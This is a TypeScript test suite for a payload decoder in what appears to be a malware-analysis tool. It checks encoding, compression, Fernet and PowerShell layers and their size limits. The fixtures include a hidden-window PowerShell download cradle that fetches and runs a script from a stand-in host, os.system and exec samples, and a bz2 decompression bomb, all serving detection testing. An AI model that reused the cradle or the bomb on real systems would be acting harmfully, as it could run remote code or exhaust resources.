// Payload decoders: every layer against vectors produced by CPython's own encoders, chains, and the limits.

import assert from 'node:assert/strict';
import { createCipheriv, createHmac } from 'node:crypto';
import { test } from 'node:test';
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import {
  decodeChain,
  decodeLayer,
  isDecodeFailure,
  looksEncoded,
  looksLikeMarshal,
  looksLikePython,
  type DecodeFailure,
  type Decoded,
} from '../../src/analysis/decode/index.ts';

const SRC = 'import os\nprint(os.getcwd())\n';
const b64 = (s: string | Uint8Array) => Buffer.from(s).toString('base64');

function ok(result: Decoded | DecodeFailure): Decoded {
  if (isDecodeFailure(result)) assert.fail(`expected a decoded payload, got: ${result.error}`);
  return result;
}
function failed(result: Decoded | DecodeFailure): DecodeFailure {
  if (!isDecodeFailure(result)) assert.fail(`expected a failure, got chain ${result.chain.join('>')}`);
  return result;
}

// Vectors printed by CPython 3.11: base64.b85encode / a85encode / b32encode, bz2.compress, lzma.compress of SRC.
const VECTORS = {
  b85: 'X>D+Ca&#bXa|&>BX>N2VZ*wkZWprbAWGE>q3I',
  a85: 'Bl.g-Ec`FBEscl,Bl8#@Df[ODATVF+A1/lU$3',
  b32: 'NFWXA33SOQQG64YKOBZGS3TUFBXXGLTHMV2GG53EFAUSSCQ=',
  bz2: 'QlpoOTFBWSZTWQfk2W0AAAZRgAAQQGEOo9yAIAAihk00Bp+qFNMjExMRI89EZUNYc5I3mGUncD4u5IpwoSAPybLa',
  xz: '/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAcaW1wb3J0IG9zCnByaW50KG9zLmdldGN3ZCgpKQoAAAAAgSAtCVlsREIAATUdRBux4R+2830BAAAAAARZWg==',
  lzmaAlone: 'XQAAgAD//////////wA0m0pnuFI8c+00V1uel5WtZj4ScgHzRuATdXiI+NnbO1l///dqYAA=',
  // zlib.compress(marshal.dumps(compile(SRC, 'x', 'exec'))), base64-encoded.
  marshal:
    'eJxLZkACLFD6sx2QmM6QwpDCmMMQxcDEkMoIxAxZTDCFy4B4NVzbMkYgjxHGYwTqCmbQZHoJ4vhpMt9iyi++xVpQlJlXcostPbUkuTxlJcNnkOQtxopfHDa5+SmlOal2RRxgvQwMxTpA4gMzIyPjDQbOBjC8wcDawNqQ2ZDUktmY3ZJ9kUHoCoPQBRgqYgNqAABomyhm',
  // bz2.compress(b'\0' * 8 MiB): a 48-byte bomb.
  bz2Bomb: 'QlpoOTFBWSZTWaI9S1gAQEBAgMAAAAQACCAAMMwFKaYBANiAgHi7kinChIUR6lrA',
  // cryptography.fernet.Fernet(key).encrypt(b'import os\nos.system("id")\n')
  fernetKey: 'cw_0x689RpI-jtRR7oE8h_eQsKImvJapLeSbXpwF4e4=',
  fernetToken:
    'gAAAAABrCxggO-UH8xlTCbVeUnvjn5h0cNZQSxXoM-75Kkk4anHPN-lqooss-jtuVDvIpwEmuej3dERihj0bTyVRDA2A9SdtdZq0PI0jlDchPREXOIF2xAY=',
};

test('text layers decode CPython-encoded vectors', async () => {
  assert.equal(ok(await decodeLayer('base85', VECTORS.b85)).text, SRC);
  assert.equal(ok(await decodeLayer('ascii85', VECTORS.a85)).text, SRC);
  assert.equal(ok(await decodeLayer('ascii85', `<~${VECTORS.a85}~>`)).text, SRC);
  assert.equal(ok(await decodeLayer('base32', VECTORS.b32)).text, SRC);
  assert.equal(ok(await decodeLayer('base32', VECTORS.b32.replace(/=+$/, '').toLowerCase())).text, SRC);
  assert.equal(ok(await decodeLayer('hex', Buffer.from(SRC).toString('hex'))).text, SRC);
  assert.equal(ok(await decodeLayer('base16', Buffer.from(SRC).toString('hex').toUpperCase())).text, SRC);
  assert.equal(ok(await decodeLayer('hex', '69 6d 70 6f')).text, 'impo');
});

test('base64: standard, urlsafe, with and without padding; garbage refused', async () => {
  const bytes = Uint8Array.from([0xfb, 0xff, 0xfe, 0x41]);
  const std = Buffer.from(bytes).toString('base64');
  const url = Buffer.from(bytes).toString('base64url');
  assert.equal(std, '+//+QQ==');
  assert.deepEqual(ok(await decodeLayer('base64', std)).bytes, bytes);
  assert.deepEqual(ok(await decodeLayer('base64', std.replace(/=/g, ''))).bytes, bytes);
  assert.deepEqual(ok(await decodeLayer('base64url', url)).bytes, bytes);
  assert.deepEqual(ok(await decodeLayer('base64', url)).bytes, bytes);
  const decoded = ok(await decodeLayer('base64', b64(SRC)));
  assert.equal(decoded.text, SRC);
  assert.equal(decoded.isPython, true);
  assert.match(failed(await decodeLayer('base64', 'not base64 at all!')).error, /unexpected character/);
});

test('rot13, reversed text and chr()/bytes() lists', async () => {
  assert.equal(ok(await decodeLayer('rot13', 'vzcbeg bf')).text, 'import os');
  assert.equal(ok(await decodeLayer('reverse', ')(dwcteg.so')).text, 'os.getcwd()');
  const ints = [...'exec'].map((c) => c.charCodeAt(0));
  assert.equal(ok(await decodeLayer('byte-list', ints)).text, 'exec');
  assert.equal(ok(await decodeChain(ints)).chain[0], 'byte-list');
  assert.equal(ok(await decodeLayer('byte-list', [0x263a])).text, '\u263a');
  assert.match(failed(await decodeLayer('byte-list', [-1])).error, /out of range/);
});

test('decompression layers: zlib (any wbits), gzip, bz2, xz; .lzma alone is reported unsupported', async () => {
  assert.equal(ok(await decodeLayer('zlib', deflateSync(SRC))).text, SRC);
  assert.equal(ok(await decodeLayer('zlib', deflateRawSync(SRC))).text, SRC);
  assert.equal(ok(await decodeLayer('zlib', gzipSync(SRC))).text, SRC);
  assert.equal(ok(await decodeLayer('gzip', gzipSync(SRC))).text, SRC);
  assert.equal(ok(await decodeChain(VECTORS.bz2, ['base64', 'bz2'])).text, SRC);
  const xz = ok(await decodeChain(VECTORS.xz, ['base64', 'lzma']));
  assert.equal(xz.text, SRC);
  assert.deepEqual(xz.chain, ['base64', 'lzma']);
  assert.match(failed(await decodeChain(VECTORS.lzmaAlone, ['base64', 'lzma'])).error, /not supported/);
  assert.match(failed(await decodeLayer('lzma', Buffer.from(VECTORS.xz, 'base64').subarray(0, 40))).error, /xz/);
  assert.match(failed(await decodeLayer('bz2', Buffer.from('BZh9garbage'))).error, /bz2/);
});

test('Fernet with a literal key: a CPython cryptography token decrypts; a wrong key or tampered token fails', async () => {
  const result = ok(await decodeLayer({ kind: 'fernet', key: VECTORS.fernetKey }, VECTORS.fernetToken));
  assert.equal(result.text, 'import os\nos.system("id")\n');
  assert.equal(result.isPython, true);
  const otherKey = Buffer.alloc(32, 7).toString('base64url');
  assert.match(
    failed(await decodeLayer({ kind: 'fernet', key: otherKey }, VECTORS.fernetToken)).error,
    /does not verify/,
  );
  const tampered =
    VECTORS.fernetToken.slice(0, 40) + (VECTORS.fernetToken[40] === 'A' ? 'B' : 'A') + VECTORS.fernetToken.slice(41);
  assert.ok(isDecodeFailure(await decodeLayer({ kind: 'fernet', key: VECTORS.fernetKey }, tampered)));
  assert.match(failed(await decodeLayer('fernet', VECTORS.fernetToken)).error, /needs the key/);
});

test('Fernet tokens built here from the spec decrypt too', async () => {
  const key = Buffer.alloc(32);
  for (let i = 0; i < 32; i++) key[i] = i * 7;
  const iv = Buffer.alloc(16, 3);
  const cipher = createCipheriv('aes-128-cbc', key.subarray(16), iv);
  const body = Buffer.concat([Buffer.from([0x80]), Buffer.alloc(8), iv, cipher.update('exec("x")'), cipher.final()]);
  const token = Buffer.concat([body, createHmac('sha256', key.subarray(0, 16)).update(body).digest()]).toString(
    'base64url',
  );
  assert.equal(ok(await decodeLayer({ kind: 'fernet', key: key.toString('base64url') }, token)).text, 'exec("x")');
});

test('PowerShell -EncodedCommand: UTF-16LE base64 from a command line or the bare blob', async () => {
  const script = "IEX (New-Object Net.WebClient).DownloadString('http://stage.invalid/a.ps1')";
  const blob = Buffer.from(script, 'utf16le').toString('base64');
  assert.equal(ok(await decodeLayer('powershell', `powershell.exe -NoP -W Hidden -enc ${blob}`)).text, script);
  assert.equal(ok(await decodeLayer('powershell', `powershell -EncodedCommand "${blob}"`)).text, script);
  assert.equal(ok(await decodeLayer('powershell', blob)).text, script);
  const auto = ok(await decodeChain(`powershell -w hidden -e ${blob}`));
  assert.deepEqual(auto.chain, ['powershell']);
});

test('automatic chains: base64 → zlib → marshal, hex → base64 → Python, reversed base64, rot13', async () => {
  const marshalled = ok(await decodeChain(VECTORS.marshal));
  assert.deepEqual(marshalled.chain, ['base64', 'zlib', 'marshal']);
  assert.equal(marshalled.isMarshal, true);
  assert.equal(marshalled.isPython, false);

  const layered = Buffer.from(b64(deflateSync(SRC))).toString('hex');
  const nested = ok(await decodeChain(layered));
  assert.deepEqual(nested.chain, ['hex', 'base64', 'zlib']);
  assert.equal(nested.text, SRC);

  const reversed = ok(await decodeChain([...b64(SRC)].reverse().join('')));
  assert.deepEqual(reversed.chain, ['reverse', 'base64']);

  const planned = ok(await decodeChain(b64(gzipSync(b64(SRC))), ['base64', 'gzip']));
  assert.deepEqual(planned.chain, ['base64', 'gzip', 'base64'], 'the plan is continued automatically');
  assert.equal(planned.text, SRC);

  assert.equal(failed(await decodeChain('just some words in a sentence')).error, 'not an encoded payload');
});

test('limits: bombs, ratio, depth and oversized input come back as limit failures, quickly', async () => {
  const bz = failed(await decodeChain(VECTORS.bz2Bomb, ['base64', 'bz2'], { limits: { maxOutputBytes: 1024 * 1024 } }));
  assert.equal(bz.limit, true);
  assert.match(bz.error, /bomb/);
  const zeros = deflateSync(Buffer.alloc(16 * 1024 * 1024));
  const zl = failed(await decodeLayer('zlib', zeros));
  assert.equal(zl.limit, true);
  const ratio = failed(
    await decodeLayer('gzip', gzipSync(Buffer.alloc(2 * 1024 * 1024)), { limits: { ratioFloorBytes: 1024 } }),
  );
  assert.equal(ratio.limit, true);
  let deep = SRC;
  for (let i = 0; i < 10; i++) deep = b64(deep);
  const tooDeep = failed(await decodeChain(deep));
  assert.equal(tooDeep.limit, true);
  assert.equal(tooDeep.chain.length, 8);
  assert.equal(ok(await decodeChain(deep, [], { limits: { maxDepth: 12 } })).text, SRC);
  const huge = failed(await decodeLayer('base64', 'A'.repeat(9 * 1024 * 1024)));
  assert.equal(huge.limit, true);
});

test('looksLikePython and looksLikeMarshal', () => {
  assert.equal(looksLikePython(SRC), true);
  assert.equal(looksLikePython("import base64,os;exec(base64.b64decode('aGk='))"), true);
  assert.equal(looksLikePython("__import__('os').system('id')"), true);
  assert.equal(looksLikePython('x = requests.get(url)\n'), true);
  assert.equal(looksLikePython('Hello, this is the README of a project.'), false);
  assert.equal(looksLikePython('\u0000\u0001binary\u0002'), false);
  assert.equal(looksLikeMarshal(Uint8Array.from([0xe3, 0, 0, 0, 0, ...new Array(30).fill(0)])), true);
  assert.equal(looksLikeMarshal(new Uint8Array(Buffer.from(SRC))), false);
});

test('looksEncoded classifies long blobs and leaves words, paths and digests alone', () => {
  assert.equal(looksEncoded(b64(SRC)), 'base64');
  assert.equal(looksEncoded(Buffer.from(SRC + '??>>').toString('base64url')), 'base64url');
  assert.equal(looksEncoded(Buffer.from(SRC).toString('hex')), 'hex');
  assert.equal(looksEncoded(VECTORS.b32), 'base32');
  assert.equal(looksEncoded(VECTORS.b85), 'base85');
  assert.equal(looksEncoded(`<~${VECTORS.a85}~>`), 'ascii85');
  assert.equal(
    looksEncoded('e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'),
    null,
    'a sha256 digest',
  );
  assert.equal(looksEncoded('short'), null);
  assert.equal(looksEncoded('this is an ordinary sentence of English text'), null);
  assert.equal(looksEncoded('/usr/local/lib/python3.11/site-packages'), null);
  assert.equal(looksEncoded('DEFAULT_CONNECTION_TIMEOUT_SECONDS'), null);
});
